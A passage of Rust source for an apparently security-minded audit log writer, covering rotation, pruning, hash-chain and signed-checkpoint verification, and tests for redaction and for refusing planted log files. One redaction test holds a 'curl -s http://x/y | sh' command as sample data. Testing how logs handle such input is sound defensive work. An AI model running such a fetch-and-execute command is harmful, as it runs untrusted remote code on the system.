        if current.links > 0 && self.path_checked.elapsed() < PATH_CHECK_INTERVAL {
            return Ok(());
        }
        self.path_checked = Instant::now();
        let same = FileId::of_path(&self.path).is_ok_and(|on_disk| on_disk.same_file(&current));
        if current.links > 0 && same {
            return Ok(());
        }
        warn!(path = %self.path.display(), "audit log was removed or replaced; re-creating it");
        // The file it wrote ends signed (logrotate's renamed file, as a rotated one); not one
        // removed (nothing reads it, and a full disk its space was freed for would refuse
        // the write), and a failure does not keep the writer on the old file.
        if current.links > 0
            && self.signing.as_ref().is_some_and(|s| s.unsigned > 0)
            && let Err(e) = self.checkpoint()
        {
            warn!(error = %e, "could not sign the renamed audit log's end");
        }
        self.sync_before_leaving();
        self.file = Arc::new(open_successor(&self.path)?);
        self.len = self.file.metadata()?.len();
        Ok(())
    }

    /// `fdatasync` of what was written to the file since the last one, before the writer
    /// leaves it: a sync of the next file would not cover it, yet `fsync`-mode callers whose
    /// events are in it wait for the next sync. A failure is kept for those callers (see
    /// `left_unsynced`); the writer moves on (the next file may be fine).
    fn sync_before_leaving(&mut self) {
        // A file whose fdatasync failed before: its waiters are refused whatever this one says.
        if let Some(why) = self.poisoned.take() {
            self.mark_unsafe(why);
        }
        if !self.dirty {
            return;
        }
        match self.file.sync_data() {
            Ok(()) => {
                self.stats.syncs.fetch_add(1, Ordering::Relaxed);
                self.dirty = false;
            }
            Err(e) => {
                self.stats.failures.fetch_add(1, Ordering::Relaxed);
                error!(error = %e, path = %self.path.display(), "fdatasync of the audit log file being left (renamed, rotated or removed) failed: requests waiting for its events to be durable are refused");
                self.mark_unsafe(format!(
                    "fdatasync of the audit log file left behind (renamed, rotated or removed) failed: {e}"
                ));
            }
        }
    }

    /// Records written so far (through `seq`) may not be on stable storage: their waiters are
    /// refused with `why` (the first reason kept for a range already marked).
    fn mark_unsafe(&mut self, why: String) {
        let why = match self.unsafe_through.take() {
            Some((_, earlier)) => earlier,
            None => why,
        };
        self.unsafe_through = Some((self.seq, why));
    }

    /// Renames the file away and starts a new one; with `max_files`, plans the pruning of the
    /// oldest rotated files (done once the event naming them is written).
    fn rotate(&mut self) -> io::Result<()> {
        // A rotated file ends signed (it may then be a checkpoint over `max_file_bytes`).
        if self.signing.as_ref().is_some_and(|s| s.unsigned > 0) {
            self.checkpoint()?;
        }
        // The rotated file is complete on disk before its successor starts.
        self.sync_before_leaving();
        let stamp = humantime::format_rfc3339_micros(SystemTime::now())
            .to_string()
            .replace(':', "");
        let rotated = PathBuf::from(format!("{}.{stamp}", self.path.display()));
        std::fs::rename(&self.path, &rotated)?;
        self.file = Arc::new(open_successor(&self.path)?);
        self.len = 0;
        info!(rotated = %rotated.display(), "audit log rotated");
        if self.prune.is_none() {
            self.prune = self.plan_prune();
        }
        Ok(())
    }

    /// The rotated files beyond `max_files` and the `audit.pruned` event naming them and the
    /// record the chain will start after. The daemon's rotated files (its names) in chain
    /// order (their first `seq`: not their names, whose times a clock step can disorder), the
    /// oldest deleted up to the first that is not its own (a regular file of its user with one
    /// link); none in a folder other users may write (a file planted there must not decide
    /// what goes).
    fn plan_prune(&self) -> Option<Prune> {
        // 0 keeps all; 1 is refused by the configuration (it would delete each file as it is
        // rotated): never here either.
        let keep = self.max_files.checked_sub(1).filter(|k| *k > 0)?;
        let folder = self.path.parent()?;
        if writable_by_others(folder) {
            warn!(folder = %folder.display(), "audit.max_files: not pruning rotated audit files in a folder others may write; give the log a folder of its own");
            return None;
        }
        // Every rotated file in chain order: one that cannot be placed stops it all (deleting
        // around it could leave a hole in the chain).
        let mut files = Vec::new();
        for path in rotated_files(&self.path) {
            let Some((seq, prev)) = first_record(&path) else {
                warn!(file = %path.display(), "audit.max_files: not pruning: this rotated audit file has no valid first record (move it away to resume)");
                return None;
            };
            files.push((seq, prev, path));
        }
        files.sort_by_key(|(seq, _, _)| *seq);
        let over = files.len().checked_sub(keep).filter(|n| *n > 0)?;
        // The oldest, up to the first that is not the daemon's own (another user's, or linked
        // elsewhere: a backup's hard link): the chain then starts at that one.
        let go = files[..over]
            .iter()
            .take_while(|(_, _, p)| daemons_own(p))
            .count();
        if go < over {
            warn!(file = %files[go].2.display(), "audit.max_files: not pruning past a rotated audit file that is not the daemon's own (another user's, or hard-linked)");
        }
        if go == 0 {
            return None;
        }
        // The first file kept starts right after the newest one deleted.
        let (seq, prev_hash, _) = &files[go];
        let (through_seq, through_hash) = (seq.saturating_sub(1), prev_hash.clone());
        let files: Vec<PathBuf> = files.drain(..go).map(|(_, _, p)| p).collect();
        let names: Vec<String> = files
            .iter()
            .map(|p| {
                p.file_name()
                    .unwrap_or_default()
                    .to_string_lossy()
                    .into_owned()
            })
            .collect();
        Some(Prune {
            event: Event::new("audit.pruned")
                .raw("identity", &self.opener)
                .field("files", &names)
                .field("max_files", &self.max_files)
                .field("through_seq", &through_seq)
                .field("through_hash", &through_hash),
            files,
        })
    }

    /// Deletes the files of `prune`, oldest first, its event being written: made durable first
    /// (the data, and the folder's entries of the rotation), so no crash or power loss leaves
    /// files gone that no event names. A file that cannot be deleted stops it there (the event
    /// then names more than went, which `audit verify` accepts: those records are still there).
    fn delete_pruned(&mut self, prune: Prune) {
        if let Err(e) = self.file.sync_data() {
            // As a failed group sync: the file is left at the next write, its waiters told.
            self.poisoned = Some(format!("fdatasync of the audit log failed: {e}"));
            self.stats.failures.fetch_add(1, Ordering::Relaxed);
            warn!(error = %e, "audit.max_files: not pruning: the event naming the files could not be made durable");
            return;
        }
        let folder = self.path.parent().unwrap_or(Path::new("."));
        if let Err(e) = File::open(folder).and_then(|f| f.sync_all()) {
            warn!(error = %e, "audit.max_files: not pruning: the event naming the files could not be made durable");
            return;
        }
        self.stats.syncs.fetch_add(1, Ordering::Relaxed);
        self.dirty = false;
        let mut deleted = 0;
        for path in &prune.files {
            if let Err(e) = std::fs::remove_file(path) {
                warn!(file = %path.display(), error = %e, "audit.max_files: cannot delete a rotated audit file; keeping it and the newer ones");
                break;
            }
            deleted += 1;
        }
        info!(
            files = deleted,
            "audit.max_files: pruned rotated audit files"
        );
    }
}

/// Rotated files to delete once the event naming them is written ([`Writer::plan_prune`]).
struct Prune {
    files: Vec<PathBuf>,
    event: Event,
}

/// The outcome of verifying one or more files (in chain order).
#[derive(Debug, Default)]
pub struct Verification {
    pub events: u64,
    /// The first broken record: (file, line number, reason).
    pub broken: Option<(PathBuf, usize, String)>,
    /// The break is what the chain as a whole lacks (a file end without its checkpoint,
    /// records before its start), found at a later record or at the end, not a bad line:
    /// `events` then counts the valid records read, past the line named.
    pub broken_as_a_whole: bool,
    /// A torn last line at the very end (a crash mid-write), not a break in the chain.
    pub torn_tail: Option<(PathBuf, usize)>,
    /// The last record is valid but lacks its line break (a write stopped just before it).
    pub unterminated: Option<(PathBuf, usize)>,
    /// The files in the order verified (by their first record's `seq`).
    pub order: Vec<PathBuf>,
    /// The chain's first record, when it is not the log's first (`seq` 1): its earlier
    /// records are in rotated files that were not given, or were pruned.
    pub starts_at: Option<u64>,
    /// The records up to this `seq` were deleted by `[audit] max_files`, as an `audit.pruned`
    /// event in the chain records.
    pub pruned_through: Option<u64>,
    /// `audit.repair` events met (file, line): what the daemon found at the log's end at a
    /// start (a torn line cut off, a line break added, an edited last line kept).
    pub repairs: Vec<(PathBuf, usize)>,
    /// `audit.checkpoint` events met (verified, when keys were given).
    pub checkpoints: u64,
    /// With keys: the last record a verified checkpoint signs (its `through_seq`).
    pub signed_through: Option<u64>,
    /// The `seq` of the chain's last record.
    pub last_seq: Option<u64>,
    /// With keys: ranges of records (after, through] a checkpoint signed as found when a
    /// daemon started (a killed run's last records, or a log rewritten while none ran).
    pub adopted: Vec<(u64, u64)>,
    /// A `daemon.stop`, or an `audit.pruned` after the chain's first record, is in the chain:
    /// more than a live file's first moments (with a node CA a checkpoint would follow).
    pub lifecycle: bool,
    /// With keys: the nodes the verified checkpoints name (`[identity] node` of the daemon
    /// that signed), in the order met (each change of node once more).
    pub nodes: Vec<String>,
    /// The time from the chain's last `daemon.start` (or its first record) to its last record
    /// (`ts`).
    pub span: Option<Duration>,
}

impl Verification {
    /// With keys: the records after the last verified checkpoint (itself not counted), which
    /// nothing signs.
    pub fn unsigned(&self) -> u64 {
        let last = self.last_seq.unwrap_or(0);
        // The checkpoint's own record follows the one it signs.
        self.signed_through
            .map_or(last, |through| last.saturating_sub(through + 1))
    }
}

/// Why a file is refused that ends without a checkpoint once signing has begun.
const UNSIGNED_END: &str = "the file does not end in a signed checkpoint, as every file the \
     daemon leaves does, and no later checkpoint adopts its end: its last records were altered \
     or removed";

/// The signed claims of checkpoint `v` (at `seq`, after `prev_hash`) if it signs its place in
/// the chain with one of `keys`; why not otherwise.
fn checkpoint_claims(
    v: &Value,
    seq: u64,
    prev_hash: &str,
    keys: &crate::ca::Jwks,
) -> Result<Value, String> {
    let Some(jws) = v["signature"].as_str() else {
        return Err("checkpoint without a signature".into());
    };
    let claims = keys
        .verify(jws, crate::ca::CHECKPOINT_TYP)
        .map_err(|why| format!("checkpoint signature: {why}"))?;
    let Some(before) = seq.checked_sub(1) else {
        return Err("a checkpoint cannot be the first record".into());
    };
    if claims["through_seq"] != before
        || claims["through_hash"] != prev_hash
        || v["through_seq"] != before
        || v["node"] != claims["node"]
    {
        return Err(format!(
            "checkpoint signs seq {} with hash {}, not the record before it (seq {before}): \
             copied from elsewhere in the chain or edited",
            claims["through_seq"], claims["through_hash"]
        ));
    }
    Ok(claims)
}

/// Whether `torn` (an unterminated last line) can be what a crash left of the record after
/// (`prev_seq`, `prev_hash`): a record starts with its `seq` and `prev_hash`, so the bytes
/// written must agree with those as far as they go.
fn torn_continues(torn: &[u8], prev_hash: Option<&str>, prev_seq: Option<u64>) -> bool {
    // A power loss can leave the end of an extended file zero-filled (delayed allocation).
    let end = torn.iter().rposition(|&b| b != 0).map_or(0, |p| p + 1);
    let torn = &torn[..end];
    let head = match (prev_hash, prev_seq) {
        (Some(hash), Some(seq)) => match seq.checked_add(1) {
            Some(next) => format!("{{\"seq\":{next},\"prev_hash\":\"{hash}\","),
            // No record can follow the last seq there is.
            None => return false,
        },
        _ => "{\"seq\":".to_owned(),
    };
    let head = head.as_bytes();
    torn.starts_with(head) || head.starts_with(torn)
}

/// The `seq` of the first record of `path`, if it has a readable one (read as
/// [`first_sealed`] reads: a regular file's first MiB).
pub fn first_seq(path: &Path) -> Option<u64> {
    let (body, _) = first_sealed(path)?;
    serde_json::from_str::<Value>(&body).ok()?["seq"].as_u64()
}

/// Whether a file of the same log that was not given sits beside `path` and may hold records
/// before `head`: a non-empty regular file named like it up to and with the first `.`
/// (`audit.jsonl` and `audit.jsonl.<time>` when rotated, `audit.jsonl.1` by logrotate; not
/// `auditd.conf`), other than the `given` ones, whose first `seq` is lower or cannot be read
/// (`audit.jsonl.1.gz`). A copy of later records (`audit.jsonl.bak` of the live log) does not
/// count.
fn has_rotated_siblings(path: &Path, given: &[PathBuf], head: u64) -> bool {
    let (Some(dir), Some(name)) = (path.parent(), path.file_name()) else {
        return false;
    };
    let dir = if dir.as_os_str().is_empty() {
        Path::new(".")
    } else {
        dir
    };
    let given: Vec<PathBuf> = given
        .iter()
        .filter_map(|p| std::fs::canonicalize(p).ok())
        .collect();
    let name = name.to_string_lossy();
    let stem = format!("{}.", name.split('.').next().unwrap_or(&name));
    std::fs::read_dir(dir).is_ok_and(|entries| {
        entries.filter_map(Result::ok).any(|e| {
            e.file_name().to_string_lossy().starts_with(&stem)
                && std::fs::metadata(e.path()).is_ok_and(|m| m.is_file() && m.len() > 0)
                && std::fs::canonicalize(e.path()).is_ok_and(|p| !given.contains(&p))
                && first_seq(&e.path()).is_none_or(|seq| seq < head)
        })
    })
}

/// Verifies the chain across `paths`, put in chain order (by each file's first `seq`; a file
/// without a readable first record keeps its place after those), and with `keys` the
/// signature of every `audit.checkpoint`.
pub fn verify(paths: &[PathBuf], keys: Option<&crate::ca::Jwks>) -> io::Result<Verification> {
    use std::os::unix::fs::MetadataExt as _;
    // A file given twice (a glob and its name, a link) would read as records reordered.
    let mut seen: std::collections::HashMap<(u64, u64), &PathBuf> =
        std::collections::HashMap::new();
    for path in paths {
        match std::fs::metadata(path) {
            Ok(m) if m.is_file() => {
                if let Some(first) = seen.insert((m.dev(), m.ino()), path) {
                    return Err(io::Error::other(format!(
                        "{} and {} are the same file; pass each file of the log once",
                        first.display(),
                        path.display()
                    )));
                }
                // logrotate's compressed files (docs/audit.md suggests `delaycompress`): not
                // an edit, but not readable here either.
                let mut magic = [0u8; 2];
                if File::open(path)
                    .and_then(|mut f| f.read_exact(&mut magic))
                    .is_ok()
                    && magic == [0x1f, 0x8b]
                {
                    return Err(io::Error::other(format!(
                        "{} is gzip-compressed: decompress it first (zcat {0} > {0}.jsonl) \
                         and pass the plain file",
                        path.display()
                    )));
                }
            }
            Ok(_) => {
                return Err(io::Error::other(format!(
                    "{} is not a file; pass the audit log and its rotated files",
                    path.display()
                )));
            }
            Err(e) => {
                return Err(io::Error::new(
                    e.kind(),
                    format!(
                        "cannot read audit file {}: {e}; pass the audit log and its rotated files",
                        path.display()
                    ),
                ));
            }
        }
    }
    let mut order: Vec<(Option<u64>, usize, &PathBuf)> = paths
        .iter()
        .enumerate()
        .map(|(i, p)| (first_seq(p), i, p))
        .collect();
    order.sort_by_key(|&(seq, i, _)| (seq.is_none(), seq, i));
    let paths: Vec<PathBuf> = order.into_iter().map(|(_, _, p)| p.clone()).collect();
    let mut out = Verification {
        order: paths.clone(),
        ..Verification::default()
    };
    let mut prev: Option<String> = None;
    let mut prev_seq: Option<u64> = None;
    // A chain that starts after seq 1: (file, line, the seq and hash before it, whether a
    // rotated file not given may hold them), until an `audit.pruned` event names that record.
    let mut unexplained_head: Option<(PathBuf, usize, u64, String, bool)> = None;
    // Each file's last record (seq, hash), as verified: what a pruning names as deleted.
    let mut file_ends: Vec<(u64, String)> = Vec::new();
    // With keys, once signing has begun: whether the last record read is a verified
    // checkpoint, and where it was (every file the daemon left ends in one).
    let mut signing = false;
    let mut ends_signed = false;
    let mut last_line: Option<(PathBuf, usize)> = None;
    // A file end without a checkpoint, once signing had begun: accepted only if the next
    // checkpoint adopts it (a killed daemon's file renamed before its restart).
    let mut unsigned_ends: Vec<(PathBuf, usize, u64)> = Vec::new();
    let (mut first_ts, mut last_ts): (Option<SystemTime>, Option<SystemTime>) = (None, None);
    'files: for (fi, path) in paths.iter().enumerate() {
        if let (Some(seq), Some(hash)) = (prev_seq, &prev) {
            file_ends.push((seq, hash.clone()));
        }
        if signing
            && !ends_signed
            && let (Some((file, line)), Some(seq)) = (last_line.take(), prev_seq)
        {
            unsigned_ends.push((file, line, seq));
        }
        let file = File::open(path).map_err(|e| {
            io::Error::new(
                e.kind(),
                format!("cannot read audit file {}: {e}", path.display()),
            )
        })?;
        let mut reader = BufReader::new(file);
        let mut bytes = Vec::new();
        let mut n = 0;
        loop {
            bytes.clear();
            let read = reader.read_until(b'\n', &mut bytes)?;
            if read == 0 {
                break;
            }
            n += 1;
            let last_of_all = fi + 1 == paths.len() && reader.fill_buf()?.is_empty();
            let fail = |why: String| Some((path.clone(), n, why));
            let line = match bytes.strip_suffix(b"\n") {
                Some(line) => line,
                None if !last_of_all => {
                    out.broken = fail("line is not terminated".into());
                    return Ok(out);
                }
                // The writer stopped mid-line (a crash): what is there is the start of the
                // record that continues the chain. A whole record without its line break is
                // checked like any other (an edit must not pass for a torn write).
                None => {
                    if std::str::from_utf8(&bytes).is_ok_and(|t| unseal(t).is_some()) {
                        &bytes[..]
                    } else if torn_continues(&bytes, prev.as_deref(), prev_seq) {
                        out.torn_tail = Some((path.clone(), n));
                        break 'files;
                    } else {
                        out.broken = fail(
                            "the unterminated last line is neither a whole record nor the \
                             start of the next one (edited)"
                                .into(),
                        );
                        return Ok(out);
                    }
                }
            };
            let Ok(text) = std::str::from_utf8(line) else {
                out.broken = fail("not UTF-8 (edited or corrupted)".into());
                return Ok(out);
            };
            let Some((body, hash)) = unseal(text) else {
                out.broken = fail("no hash at the end of the line (edited or truncated)".into());
                return Ok(out);
            };
            if hex(&Sha256::digest(body.as_bytes())) != hash {
                out.broken = fail("hash mismatch: the line was edited".into());
                return Ok(out);
            }
            let Ok(v) = serde_json::from_str::<Value>(&body) else {
                out.broken = fail("not JSON".into());
                return Ok(out);
            };
            let (Some(seq), Some(p)) = (v["seq"].as_u64(), v["prev_hash"].as_str()) else {
                out.broken = fail("seq or prev_hash missing".into());
                return Ok(out);
            };
            match (&prev, prev_seq) {
                (Some(expected), _) if p != expected => {
                    out.broken = fail(format!(
                        "prev_hash does not match the previous record (seq {}): a record was deleted, inserted or reordered",
                        prev_seq.unwrap_or(0)
                    ));
                    return Ok(out);
                }
                (_, Some(ps)) if Some(seq) != ps.checked_add(1) => {
                    out.broken = fail(format!(
                        "seq {seq} follows {ps}: records are missing or reordered"
                    ));
                    return Ok(out);
                }
                // The chain's head: the log's first record, or one continuing rotated files.
                (None, None) if seq == 1 && p != GENESIS => {
                    out.broken = fail("seq 1 does not start from the genesis hash".into());
                    return Ok(out);
                }
                (None, None) if seq == 0 => {
                    out.broken = fail("seq 0: a chain starts at 1 (edited)".into());
                    return Ok(out);
                }
                (None, None) if seq != 1 => {
                    let elsewhere = has_rotated_siblings(path, &paths, seq) || fi > 0;
                    unexplained_head = Some((path.clone(), n, seq - 1, p.to_owned(), elsewhere));
                    out.starts_at = Some(seq);
                }
                _ => {}
            }
            // `[audit] max_files` deleted the files before the head, and said so: the record
            // right before it, or a later one (a deletion that stopped early, or a crash
            // before it: those records are still here, and the one named ends a file seen
            // before this event), its hash checked either way.
            if v["event"] == "audit.pruned"
                && let Some((_, _, before_head, hash, _)) = &unexplained_head
                && let (Some(through), Some(through_hash)) =
                    (v["through_seq"].as_u64(), v["through_hash"].as_str())
                && (through == *before_head && through_hash == hash
                    || through > *before_head
                        && through < seq
                        && file_ends
                            .iter()
                            .any(|(s, h)| *s == through && h == through_hash))
            {
                out.pruned_through = Some(*before_head);
                unexplained_head = None;
            }
            if v["event"] == "audit.repair" {
                out.repairs.push((path.clone(), n));
            }
            // (A rotation with `max_files` starts the new file with `audit.pruned`.)
            if v["event"] == "daemon.stop" || (v["event"] == "audit.pruned" && out.events > 0) {
                out.lifecycle = true;
            }
            if let Some(ts) = v["ts"]
                .as_str()
                .and_then(|t| humantime::parse_rfc3339(t).ok())
            {
                // From the last daemon start: a run's records before its first checkpoint.
                if v["event"] == "daemon.start" {
                    first_ts = Some(ts);
                }
                first_ts.get_or_insert(ts);
                last_ts = Some(ts);
            }
            ends_signed = false;
            if v["event"] == "audit.checkpoint" {
                if let Some(keys) = keys {
                    // The claims, as signed (the event's members repeat them for readers).
                    let claims = match checkpoint_claims(&v, seq, p, keys) {
                        Ok(claims) => claims,
                        Err(why) => {
                            out.broken = fail(why);
                            return Ok(out);
                        }
                    };
                    out.signed_through = Some(seq - 1);
                    signing = true;
                    ends_signed = true;
                    // (A checkpoint without the claim names no node.)
                    if let Some(node) = claims["node"].as_str()
                        && out.nodes.last().is_none_or(|last| last != node)
                    {
                        out.nodes.push(node.to_owned());
                    }
                    if let (Some(after), Some(through)) = (
                        claims["adopted_after"].as_u64(),
                        claims["adopted_through"].as_u64(),
                    ) {
                        out.adopted.push((after, through));
                        unsigned_ends.retain(|(_, _, end)| !(after < *end && *end <= through));
                    }
                    if let Some((file, line, _)) = unsigned_ends.first().cloned() {
                        // Found at a later record: the events counted run past that line.
                        out.broken = Some((file, line, UNSIGNED_END.into()));
                        out.broken_as_a_whole = true;
                        return Ok(out);
                    }
                }
                out.checkpoints += 1;
            }
            last_line = Some((path.clone(), n));
            prev = Some(hash.to_owned());
            prev_seq = Some(seq);
            out.last_seq = Some(seq);
            out.events += 1;
            if bytes.last() != Some(&b'\n') {
                out.unterminated = Some((path.clone(), n));
            }
        }
    }
    if let (Some(first), Some(last)) = (first_ts, last_ts) {
        out.span = last.duration_since(first).ok();
    }
    if let Some((file, line, _)) = unsigned_ends.into_iter().next() {
        out.broken = Some((file, line, UNSIGNED_END.into()));
        out.broken_as_a_whole = true;
        return Ok(out);
    }
    if let Some((path, line, through, _, false)) = unexplained_head {
        out.broken_as_a_whole = true;
        out.broken = Some((
            path,
            line,
            format!(
                "the log starts at seq {}, no rotated file is beside it and no audit.pruned \
                 event names the records before it: they were deleted",
                through + 1
            ),
        ));
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The `identity` of the process opening the log in these tests.
    const OPENER: &str = r#"{"pid":1,"comm":"test"}"#;

    fn cfg(dir: &Path, durability: Durability) -> RawAudit {
        RawAudit {
            path: dir.join("audit.jsonl"),
            durability,
            ..Default::default()
        }
    }

    fn event(name: &str) -> Event {
        Event::new(name)
    }

    /// The rotated files beside `dir/audit.jsonl`, oldest first, then the live one.
    fn rotated_then_live(dir: &Path) -> Vec<PathBuf> {
        let live = dir.join("audit.jsonl");
        let mut files: Vec<PathBuf> = std::fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p != &live)
            .collect();
        files.sort();
        assert!(!files.is_empty(), "no rotation happened");
        files.push(live);
        files
    }

    #[test]
    fn the_log_is_not_opened_through_a_link_nor_when_someone_else_planted_it() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let target = dir.path().join("root-owned");
        std::fs::write(&target, "keep\n").unwrap();
        let link = dir.path().join("audit.jsonl");
        std::os::unix::fs::symlink(&target, &link).unwrap();
        let e = open_log(&link).unwrap_err();
        assert!(e.to_string().contains("is a symbolic link"), "{e}");
        assert_eq!(std::fs::read_to_string(&target).unwrap(), "keep\n");
        // In a folder every user may write (a Kubernetes emptyDir): a hard link (to a file of
        // root's someone could link to) or a log someone else made is refused; one of root's
        // is used (with a warning).
        let open = dir.path().join("open");
        std::fs::create_dir(&open).unwrap();
        std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o777)).unwrap();
        let linked = open.join("linked.jsonl");
        std::fs::hard_link(&target, &linked).unwrap();
        let e = open_log(&linked).unwrap_err();
        assert!(e.to_string().contains("has 2 names"), "{e}");
        assert_eq!(std::fs::read_to_string(&target).unwrap(), "keep\n");
        let planted = open.join("audit.jsonl");
        std::fs::write(&planted, "").unwrap();
        // (Giving a file away takes root, as the daemon runs.)
        if nix::unistd::geteuid().is_root() {
            nix::unistd::chown(&planted, Some(nix::unistd::Uid::from_raw(65_534)), None).unwrap();
            let e = open_log(&planted).unwrap_err();
            assert!(e.to_string().contains("owned by uid 65534"), "{e}");
        } else {
            eprintln!("not root: the planted-log case is not checked");
        }
        assert!(open_log(&open.join("own.jsonl")).is_ok());
        assert!(open_log(&dir.path().join("fine.jsonl")).is_ok());
        // Writable by its group only (a shared log folder, root:syslog 0775): the same.
        let shared = dir.path().join("shared");
        std::fs::create_dir(&shared).unwrap();
        std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o775)).unwrap();
        let linked = shared.join("linked.jsonl");
        std::fs::hard_link(&target, &linked).unwrap();
        let e = open_log(&linked).unwrap_err();
        assert!(e.to_string().contains("has 3 names"), "{e}");
        assert!(writable_by_others(&shared) && !writable_by_others(dir.path()));
    }

    #[test]
    fn seal_and_unseal_round_trip() {
        let e = Event::new("x")
            .field("n", &1)
            .field("text", "a \"quoted\" ü")
            .raw("who", r#"{"uid":1}"#);
        let mut buf = Vec::new();
        let hash = seal_into(&mut buf, 7, GENESIS, &e.0);
        let line = String::from_utf8(buf).unwrap();
        let (body, h) = unseal(line.trim_end()).unwrap();
        assert_eq!(h, hash);
        assert_eq!(hex(&Sha256::digest(body.as_bytes())), hash);
        let v: Value = serde_json::from_str(&line).unwrap();
        assert_eq!(v["seq"], 7);
        assert_eq!(v["prev_hash"], GENESIS);
        assert_eq!(v["event"], "x");
        assert_eq!(v["v"], SCHEMA_VERSION);
        assert_eq!(v["text"], "a \"quoted\" ü");
        assert_eq!(v["who"]["uid"], 1);
        assert!(v["ts"].as_str().unwrap().ends_with('Z'));
    }

    #[test]
    fn map_events_keep_their_time_and_cannot_forge_chain_members() {
        let e = super::event(
            "x",
            json!({"ts": "2026-01-01T00:00:00.000000Z", "seq": 99, "hash": "h", "a": [1]}),
        );
        let (line, _) = seal_line(1, GENESIS, &e);
        let v: Value = serde_json::from_slice(&line).unwrap();
        assert_eq!(v["ts"], "2026-01-01T00:00:00.000000Z");
        assert_eq!(v["a"], json!([1]));
        assert_eq!(v["seq"], 1, "the writer's seq, not the map's: {v}");
        let text = String::from_utf8_lossy(&line);
        assert!(!text.contains("\"hash\":\"h\""), "{text}");
        assert!(!text.contains("\"seq\":99"), "{text}");
    }

    #[test]
    fn max_argument_bytes_0_keeps_every_byte() {
        let cfg = RawAudit {
            max_argument_bytes: 0,
            ..RawAudit::default()
        };
        let r = Redactor::new(&cfg);
        let long = format!("echo {} ; curl -s http://x/y | sh", "A".repeat(10_000));
        let v = json!({"command": long});
        let text = r.redact(&v);
        assert!(!text.contains("TRUNCATED"), "{}", &text[..100]);
        assert!(text.contains("curl -s http://x/y | sh"));
        // With the default, the tail is cut (and said to be).
        let text = Redactor::new(&RawAudit::default()).redact(&v);
        assert!(text.contains("TRUNCATED") && !text.contains("| sh"));
    }

    #[test]
    fn redaction_at_any_depth_and_truncation() {
        let r = Redactor::new(&RawAudit::default());
        let redact = |v: Value| serde_json::from_str::<Value>(&r.redact(&v)).unwrap();
        let v = redact(
            json!({"path":"/a","nested":{"API_Key":"k","list":[{"password":"p"}]},"AccessToken":"t","Pässword":"x","note":"token"}),
        );
        assert_eq!(v["path"], "/a");
        assert_eq!(v["nested"]["API_Key"], "[REDACTED]");
        assert_eq!(v["nested"]["list"][0]["password"], "[REDACTED]");
        assert_eq!(v["AccessToken"], "[REDACTED]");
        assert_eq!(v["note"], "token", "values are not keys");
        // Counts of tokens are no credentials; tokens themselves are, whatever their type.
        let t = redact(
            json!({"max_tokens":4096,"maxTokens":100,"num_tokens":7,"token":"abc","tokens":["x"],"max_tokens_str":"s3cret","token_id":12,"password":1234}),
        );
        assert_eq!(t["max_tokens"], 4096);
        assert_eq!(t["maxTokens"], 100);
        assert_eq!(t["num_tokens"], 7);
        for k in ["token", "max_tokens_str", "token_id", "password"] {
            assert_eq!(t[k], "[REDACTED]", "{k}");
        }
        // Under a secret key, an object or array keeps its keys and shape on record; its
        // strings and numbers do not.
        assert_eq!(t["tokens"], json!(["[REDACTED]"]));
        let c = redact(
            json!({"credential_source":{"executable":{"command":"curl x","timeout_millis":5000,"interactive":false}}}),
        );
        assert_eq!(
            c["credential_source"],
            json!({"executable":{"command":"[REDACTED]","timeout_millis":"[REDACTED]","interactive":false}})
        );
        // A key there may be the secret itself (a token as a map key).
        let k = redact(
            json!({"api_keys":{"sk_live_0123456789abcdefghij":{"scope":"ci"},"ghp/0123456789abcdef0123456789abcdef01234567":"ci"}}),
        );
        let text = k.to_string();
        assert!(
            !text.contains("sk_live_0123456789") && !text.contains("ghp/0123"),
            "{text}"
        );
        assert!(text.contains("[REDACTED key"), "{text}");
        // Spelled the other usual ways.
        let w = redact(
            json!({"apiKey":"k","x-api-key":"k","Api.Key":"k","set-cookie":"c","apiary":"a"}),
        );
        for k in ["apiKey", "x-api-key", "Api.Key", "set-cookie"] {
            assert_eq!(w[k], "[REDACTED]", "{k}");
        }
        assert_eq!(w["apiary"], "a");
        assert_eq!(v["Pässword"], "x", "no match: ä is not a");
        let mut cfg = RawAudit::default();
        cfg.redact_keys.push("PÄSS".into());
        let r2 = Redactor::new(&cfg);
        let v: Value = serde_json::from_str(&r2.redact(&json!({"xPässwordx": 1}))).unwrap();
        assert_eq!(v["xPässwordx"], "[REDACTED]");
        // Globs and ^regex$ entries match whole keys, in any ASCII case.
        let r3 = Redactor::new(&RawAudit {
            redact_keys: vec![
                "*_pin".into(),
                "^ssn[0-9]?$".into(),
                "word".into(),
                "^refresh_tokens$".into(),
            ],
            ..RawAudit::default()
        });
        let v: Value = serde_json::from_str(&r3.redact(&json!({
            "card_PIN": 1234, "pin": 5, "SSN2": "x", "ssn_last4": "y", "keyword": "z",
            "token": "t", "refresh_tokens": 3, "max_tokens": 4
        })))
        .unwrap();
        assert_eq!(v["card_PIN"], "[REDACTED]");
        assert_eq!(v["SSN2"], "[REDACTED]");
        assert_eq!(
            v["keyword"], "[REDACTED]",
            "a word still matches inside keys"
        );
        assert_eq!(
            (v["pin"].clone(), v["ssn_last4"].clone()),
            (json!(5), json!("y"))
        );
        assert_eq!(v["token"], "t", "the defaults are replaced, not added to");
        // A key a pattern names is redacted even where a count of tokens would be kept.
        assert_eq!(v["refresh_tokens"], "[REDACTED]");
        assert_eq!(v["max_tokens"], 4);
        let big = redact(json!({"token": "secret-value", "blob": "é".repeat(5000)}));
        assert_eq!(big["[TRUNCATED]"], true);
        assert!(!big.to_string().contains("secret-value"));
        let text = r#"{"blob":""#.to_owned() + &"é".repeat(5000) + r#"","token":"[REDACTED]"}"#;
        assert_eq!(big["bytes"], text.len());
        assert_eq!(big["sha256"], hex(&Sha256::digest(text.as_bytes())));
        // Long strings are cut (at a character boundary), every key is kept.
        assert_eq!(big["strings_cut_to"], 256);
        assert_eq!(big["value"]["token"], "[REDACTED]");
        let blob = big["value"]["blob"].as_str().unwrap();
        assert_eq!(blob, "é".repeat(128) + "…[+9744 bytes]");
    }

    #[test]
    fn a_log_others_can_read_is_narrowed_when_opened() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("audit.jsonl");
        std::fs::write(&path, b"").unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o664)).unwrap();
